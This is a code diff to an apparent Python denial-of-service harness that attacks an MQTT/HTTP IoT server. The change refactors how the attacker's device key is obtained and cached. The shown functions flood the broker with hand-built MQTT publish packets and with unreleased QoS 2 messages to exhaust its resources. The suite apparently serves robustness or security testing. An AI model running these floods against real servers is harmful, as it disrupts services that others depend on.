@@ -8,6 +8,7 @@ ended opens another.
 import base64
 import contextlib
 import dataclasses
+import functools
 import http.client
 import itertools
 import json
@@ -40,7 +41,7 @@ LARGE_VALUES = 64
 class Target:
     """The server that is attacked, and what an attacker has been given there.
 
-    `token` is of an account without a network, `key` of a device that belongs to it.
+    `token` is of an account without a network.
     """
 
     http_port: int
@@ -48,7 +49,6 @@ class Target:
     admin_key: str
     sensors: int
     token: str = ""
-    key: str = ""
 
     def call(self, method: str, path: str, body: Any = None, **headers: str) -> Any:
         """Return what the server answers a well-meant request.
@@ -69,11 +69,15 @@ class Target:
         return json.loads(said) if said else None
 
     def enter(self) -> None:
-        """Sign up, and be given a device."""
+        """Sign up."""
         credentials = {"username": NAME, "password": PASSWORD}
         self.token = self.call("POST", "/users", credentials)["access_token"]
+
+    @functools.cached_property
+    def key(self) -> str:
+        """The key of a device that the attacker is given when he asks for it."""
         made = self.call("POST", "/devices", {"device_id": DEVICE}, X_API_Key=self.admin_key)
-        self.key = made["api_key"]
+        return str(made["api_key"])
 
     def open(self, port: int, seconds: float = PATIENCE) -> socket.socket:
         """Return a connection from the attackers' address."""
@@ -205,10 +209,10 @@ def mqtt_configurations(target: Target) -> list[Client]:
 
 def mqtt_tiny(target: Target) -> list[Client]:
     """Publish the smallest messages at QoS 0 as fast as they are taken."""
-    numbers = itertools.count()
+    key, numbers = target.key, itertools.count()
 
     def opened() -> socket.socket:
-        return target.mqtt(f"flood-{next(numbers)}", DEVICE, target.key, clean=True)
+        return target.mqtt(f"flood-{next(numbers)}", DEVICE, key, clean=True)
 
     return [sending(opened, b"\x30\x05\x00\x01x{}" * 10_000, reading=True)] * 4
 
@@ -239,10 +243,10 @@ def mqtt_qos2(target: Target) -> list[Client]:
         message = b'{"value":%d}' % packet_id
         head = len(topic).to_bytes(2, "big") + topic + packet_id.to_bytes(2, "big")
         pieces.append(b"\x34" + remaining_length(len(head) + len(message)) + head + message)
-    numbers = itertools.count()
+    key, numbers = target.key, itertools.count()
 
     def opened() -> socket.socket:
-        return target.mqtt(f"unreleased-{next(numbers)}", DEVICE, target.key, clean=False)
+        return target.mqtt(f"unreleased-{next(numbers)}", DEVICE, key, clean=False)
 
     return [sending(opened, b"".join(pieces), reading=True)] * 10
 
